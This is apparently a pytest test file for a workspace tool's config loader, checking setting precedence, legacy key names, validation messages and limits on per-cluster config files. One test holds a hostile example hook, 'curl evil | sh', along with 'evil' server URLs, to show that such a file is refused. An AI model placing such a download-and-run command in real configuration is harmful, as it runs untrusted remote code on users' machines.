"""Settings: their precedence, their origins, and refusals that name the key."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from imi_monitor import config, paths
from imi_monitor.fast import plain_toml
from imi_monitor.model.errors import UsageError
from tests.helpers import ROOT, Repo, imi

# Every key that an iMi of any era writes or reads.
IMI = """
IMI_DATABASE_PATH = "/data/iMi.db"
IMI_SYSTEM_PATHS = ["/home/u/code"]
IMI_SYSTEM_PATH = "/path1;/path2"
symlink_files = [".env", ".vscode/settings.json"]

[sync_settings]
enabled = true
user_sync_path = "sync/user"
local_sync_path = "sync/local"

[git_settings]
default_branch = "main"
remote_name = "origin"
auto_fetch = true
prune_on_fetch = true

[monitoring_settings]
enabled = true
refresh_interval_ms = 1000
watch_file_changes = true
track_agent_activity = true

[workspace_settings]
root_path = "/home/u/workspaces"
entity_id = "u"
"""


def write(text: str | bytes, path: Path | None = None) -> str:
    target = path or Path(paths.config_file())
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(text.encode() if isinstance(text, str) else text)
    return str(target)


def origin(settings: config.Settings, key: str) -> str:
    return {name: where for name, _, where in settings.items()}[key]


def refused(code: str) -> str:
    with pytest.raises(UsageError) as caught:
        config.load()
    assert caught.value.code == code
    assert "\n" not in caught.value.sentence
    return caught.value.sentence


def without_line_number(sentence: str) -> str:
    return re.sub(r" line \d+", "", sentence)


def test_settings_are_defaults_without_a_file() -> None:
    settings = config.load()
    assert {where for _, _, where in settings.items()} == {"default"}
    assert [key for key, _, _ in settings.items()] == list(config.KEYS)
    assert (settings.number("trash.keep_days"), settings.flag("sync.enabled")) == (30, True)


def test_iMis_own_file_is_accepted() -> None:
    where = write(IMI)
    settings = config.load()
    assert settings.text("git.default_branch") == "main"
    assert settings.number("ui.refresh_interval_ms") == 1000
    assert origin(settings, "sync.former_links") == where
    assert config.database_path(None) == "/data/iMi.db"


def test_older_names_are_read_and_listed_with_their_lines() -> None:
    where = write(IMI + "[git]\nremote_name = 'upstream'\n")
    settings = config.load()
    assert (settings.text("git.remote_name"), settings.text("git.default_branch")) == ("upstream", "main")
    listed = {name: (says, place) for name, says, place in settings.old_names}
    not_of_imi = {"git_settings.fetch_timeout_seconds", "auto_claim"}
    assert set(listed) == {*config.OLD_NAMES, *config.NO_EFFECT} - not_of_imi
    assert listed["git_settings.default_branch"] == ("is now git.default_branch", f"{where} line 13")
    assert listed["git_settings.remote_name"][0] == "is now git.remote_name, which this file sets too"
    assert listed["IMI_SYSTEM_PATHS"] == (
        "has no effect: imi lists the repositories of its registry",
        f"{where} line 3",
    )


def test_older_names_lead_to_settings_and_every_setting_has_one_style() -> None:
    assert set(config.OLD_NAMES.values()) <= set(config.KEYS)
    assert not (set(config.OLD_NAMES) | set(config.NO_EFFECT)) & set(config.KEYS)
    assert all(re.fullmatch(r"[a-z]+\.[a-z_]+", key) for key in config.KEYS)


@pytest.mark.parametrize(
    "text",
    [
        "[registry]\npath = '/new.db'\n",
        "registry.path = '/new.db'\n",
        "[trash]\nkeep_days = 3\n[registry]\npath = '/new.db'\n",
        "IMI_DATABASE_PATH = '/old.db'\n[registry]\npath = '/new.db'\n",
        "[registry]\npath = '/new.db'\n[ui]\ntheem = 'x'\n",
    ],
)
def test_hot_verbs_find_the_registry_by_its_new_name(text: str) -> None:
    write(text)
    assert config.database_path(None) == "/new.db"


def test_flag_before_environment_before_file_before_default(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = os.environ["HOME"]
    assert config.database_path(None) == f"{home}/.config/iMi/iMi.db"
    where = write('IMI_DATABASE_PATH = "~/file.db"\n[claims]\nagent = "from-file"\n')
    assert config.database_path(None) == f"{home}/file.db"
    assert (config.load().text("claims.agent"), origin(config.load(), "claims.agent")) == ("from-file", where)
    monkeypatch.setenv("IMI_DATABASE_PATH", "~/environment.db")
    monkeypatch.setenv("IMI_AGENT_ID", "from-environment")
    assert config.database_path(None) == f"{home}/environment.db"
    assert (config.load().text("claims.agent"), origin(config.load(), "claims.agent")) == (
        "from-environment",
        "$IMI_AGENT_ID",
    )
    assert config.database_path("flag.db") == str(tmp_path / "flag.db")
    monkeypatch.setenv("IMI_DATABASE_PATH", "")  # set but empty is not set
    assert config.database_path(None) == f"{home}/file.db"


def test_the_file_is_where_XDG_or_IMI_CONFIG_say(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert paths.config_file() == str(tmp_path / "xdg" / "iMi" / "config.toml")
    assert config.database_path(None) == os.path.join(os.environ["HOME"], ".config", "iMi", "iMi.db")  # as iMi has it
    monkeypatch.setenv("IMI_CONFIG", str(tmp_path / "mine.toml"))
    write("[trash]\nkeep_days = 3\n", tmp_path / "mine.toml")
    assert config.load().number("trash.keep_days") == 3


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[trash]\nkeep_day = 3\n", "unknown setting 'trash.keep_day' in {}: did you mean 'trash.keep_days'?"),
        ("nonsense = 1\n", "unknown setting 'nonsense' in {}: `imi config` lists all"),
        ("[servers.redis]\nurl = 'x'\n", "unknown setting 'servers.redis' in {}"),
        ("[repositories.app]\npost_creat = 'x'\n", "unknown setting 'repositories.app.post_creat' in {}"),
        ('"\\u001b[31m" = 1\n', "x1b[31m' in {}"),
    ],
)
def test_an_unknown_key_is_refused_and_named(text: str, says: str) -> None:
    where = write(text)
    sentence = refused("unknown-setting")
    assert says.format(where) in without_line_number(sentence)
    assert "\x1b" not in sentence


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[trash]\nkeep_days = '3'\n", "trash.keep_days in {} must be a number"),
        ("[trash]\nkeep_days = true\n", "trash.keep_days in {} must be a number"),
        ("[trash]\nkeep_days = 1.5\n", "trash.keep_days in {} must be a number"),
        ("[trash]\nkeep_days = 0\n", "trash.keep_days in {} must be at least 1"),
        ("[trash]\nkeep_days = -30\n", "trash.keep_days in {} must be at least 1"),
        ("[claims]\nttl_seconds = -1\n", "claims.ttl_seconds in {} must be at least 0"),
        ("[sync_settings]\nenabled = 1\n", "sync_settings.enabled in {} must be true or false"),
        ("symlink_files = '.env'\n", "symlink_files in {} must be a list of texts"),
        ("symlink_files = [1]\n", "symlink_files in {} must be a list of texts"),
        ("claims = 3\n", "unknown setting 'claims' in {}"),
        ("[worktrees]\nbranch_style = 'dots'\n", "worktrees.branch_style in {} must be one of slash, dash"),
        ("[worktrees]\npath_template = '/fixed'\n", "worktrees.path_template in {} must be a path with {{name}} in it"),
        ("[worktrees]\npath_template = '{{name}}/{{user}}'\n", "worktrees.path_template in {} must be a path"),
        ("repositories = 3\n", "repositories in {} must be tables"),
        ("[repositories]\napp = 3\n", "[repositories.app] in {} must be a table"),
        ("[repositories.app]\npost_create = [1]\n", "repositories.app.post_create in {} must be a command or a list"),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused(text: str, says: str) -> None:
    where = write(text.replace("{{", "{").replace("}}", "}"))
    with pytest.raises(UsageError) as caught:
        config.load()
    assert says.format(where) in without_line_number(caught.value.sentence)


def test_repository_commands_are_read_from_the_config() -> None:
    write("[repositories.app]\npost_create = 'make setup'\npre_remove = ['a', 'b']\n")
    settings = config.load()
    assert settings.commands("app", "post_create") == ["make setup"]
    assert settings.commands("app", "pre_remove") == ["a", "b"]
    assert settings.commands("other", "pre_remove") == []


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"[trash\nkeep_days = 3\n", "is not valid TOML: "),
        (b"a = 1\na = 2\n", "is not valid TOML: "),
        (b"# \xff\xfe\n", "is not valid TOML: "),
        (b"a = " + b"[" * 5000, "is not valid TOML: "),
        (b"#" * (1 << 20) + b"\n\n", "is larger than 1 MB"),
    ],
)
def test_an_invalid_config_file_is_refused(content: bytes, says: str) -> None:
    where = write(content)
    sentence = refused("bad-config")
    assert where in sentence and says in sentence


def test_an_unreadable_config_file_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    os.mkfifo(tmp_path / "pipe")
    for name in ("pipe", "."):
        monkeypatch.setenv("IMI_CONFIG", str(tmp_path / name))
        assert "is not a regular file" in refused("bad-config")
    monkeypatch.setenv("IMI_CONFIG", str(tmp_path / ("x" * 300)))
    assert "cannot read the config file" in refused("bad-config")
    monkeypatch.setenv("IMI_CONFIG", str(tmp_path / "none.toml"))
    config.load()


# A cluster's own file lies where agents write ------------------------------------------------------------------------


def test_a_clusters_file_comes_after_the_users_and_before_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write("[git_settings]\nremote_name = 'users'\ndefault_branch = 'users'\n")
    extra = write("[git_settings]\nremote_name = 'clusters'\n", tmp_path / ".iMi" / "config.toml")
    settings = config.load(extra)
    assert settings.text("git.remote_name") == "clusters"
    assert settings.text("git.default_branch") == "users"
    assert origin(settings, "git.remote_name") == extra


@pytest.mark.parametrize(
    "text",
    [
        "[repositories.app]\npost_create = 'curl evil | sh'\n",
        "repositories = 1\n",
        "[claims]\nagent = 'somebody'\n",
        "[servers]\nredis_url = 'redis://evil'\n",
        "[servers]\namqp_url = 'amqp://evil'\n",
        "[servers]\npostgres_url = 'postgres://evil'\n",
    ],
)
def test_a_clusters_config_may_not_set_commands_servers_or_agent(tmp_path: Path, text: str) -> None:
    extra = write(text, tmp_path / ".iMi" / "config.toml")
    with pytest.raises(UsageError, match="not allowed in") as caught:
        config.load(extra)
    assert extra in caught.value.sentence and paths.config_file() in caught.value.sentence


def test_a_clusters_file_does_not_move_the_registry(tmp_path: Path) -> None:
    extra = write(IMI, tmp_path / ".iMi" / "config.toml")
    settings = config.load(extra)  # iMi writes the whole file there: it is accepted
    assert settings.text("registry.path") == ""
    assert settings.text("git.default_branch") == "main"


# The hot commands read one key ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("", ""),
        ("[trash]\nkeep_days = 3\n", ""),
        ('IMI_DATABASE_PATH = "/a b/c.db"\n', "/a b/c.db"),
        ("# a comment\n\nIMI_DATABASE_PATH='/x.db'\n[trash]\nkeep_days = 3\n", "/x.db"),
        ('IMI_DATABASE_PATH = "/ümläut.db"', "/ümläut.db"),
        ('IMI_DATABASE_PATH = ""\n', ""),
        # from here on a TOML parser is needed
        ('IMI_DATABASE_PATH = "/x.db" # note\n', None),
        ('IMI_DATABASE_PATH = "/x\\u0041.db"\n', None),
        ("IMI_DATABASE_PATH = '''/x.db'''\n", None),
        ('# IMI_DATABASE_PATH = "/no.db"\n', None),
        (' IMI_DATABASE_PATH = "/x.db"\n', None),
        ('"IMI_DATABASE_PATH" = "/x.db"\n', None),
        ('symlink_files = ["""\nIMI_DATABASE_PATH = "/no.db"\n"""]\n', None),
        ('[other]\nIMI_DATABASE_PATH = "/no.db"\n', None),
        ('IMI_DATABASE_PATH = "/x.db"\nIMI_DATABASE_PATH = "/y.db"\n', None),
        ("IMI_DATABASE_PATH = 3\n", None),
        ('IMI_DATABASE_PATH = "/x\'.db"\n', "/x'.db"),
        ("IMI_DATABASE_PATH\n", None),
    ],
)
def test_one_key_is_read_without_a_parser_or_not_at_all(text: str, wanted: str | None) -> None:
    assert plain_toml.top_level_text(text.encode(), "IMI_DATABASE_PATH") == wanted
    if wanted is not None:  # and a parser would say the same
        write(text)
        assert config.load().text("registry.path") == wanted


def test_hot_verbs_need_no_toml_parser_for_a_plain_file() -> None:
    write(IMI)
    program = "import sys; from imi_monitor import config; print(config.database_path(None), 'tomllib' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True, timeout=90
    )
    assert done.stdout.split() == ["/data/iMi.db", "False"]


def test_a_broken_config_is_refused_with_its_line_by_what_needs_it_and_by_nothing_else(repo: Repo) -> None:
    file = Path(paths.config_file())
    file.parent.mkdir(parents=True)
    file.write_text('[git_settings]\nremote_name = "origin"\n\n[ui]\ntheem = "light"\n')
    sentence = f"unknown setting 'ui.theem' in {file} line 5: did you mean 'ui.theme'?"
    for words in (["status"], ["feat", "x"], ["claim", "app"], ["log"], ["trash"]):
        refused = imi(*words, cwd=repo.path)
        assert (refused.code, refused.out, refused.err) == (2, "", f"imi: {sentence}\n"), words
    for words in (["help"], ["version"], ["paths"], ["list"]):
        assert imi(*words, cwd=repo.path).code == 0, words
    listed = imi("config", "--json", cwd=repo.path)
    assert listed.code == 1 and listed.json["data"]["problems"] == [sentence]
    assert sentence in imi("doctor", cwd=repo.path).out


def test_a_claim_can_be_renewed_checked_and_released_whatever_the_dashboards_settings_say(repo: Repo) -> None:
    assert imi("claim", "app", cwd=repo.path).code == 0
    file = Path(paths.config_file())
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text('[ui]\ntheem = "light"\n[notify]\nwhen = "sometimes"\n')
    for verb in ("verify-lock", "heartbeat", "release"):
        assert imi(verb, "app", cwd=repo.path).code == 0, verb
    file.write_text("[ui\n")
    assert imi("release", "app", cwd=repo.path).code == 2
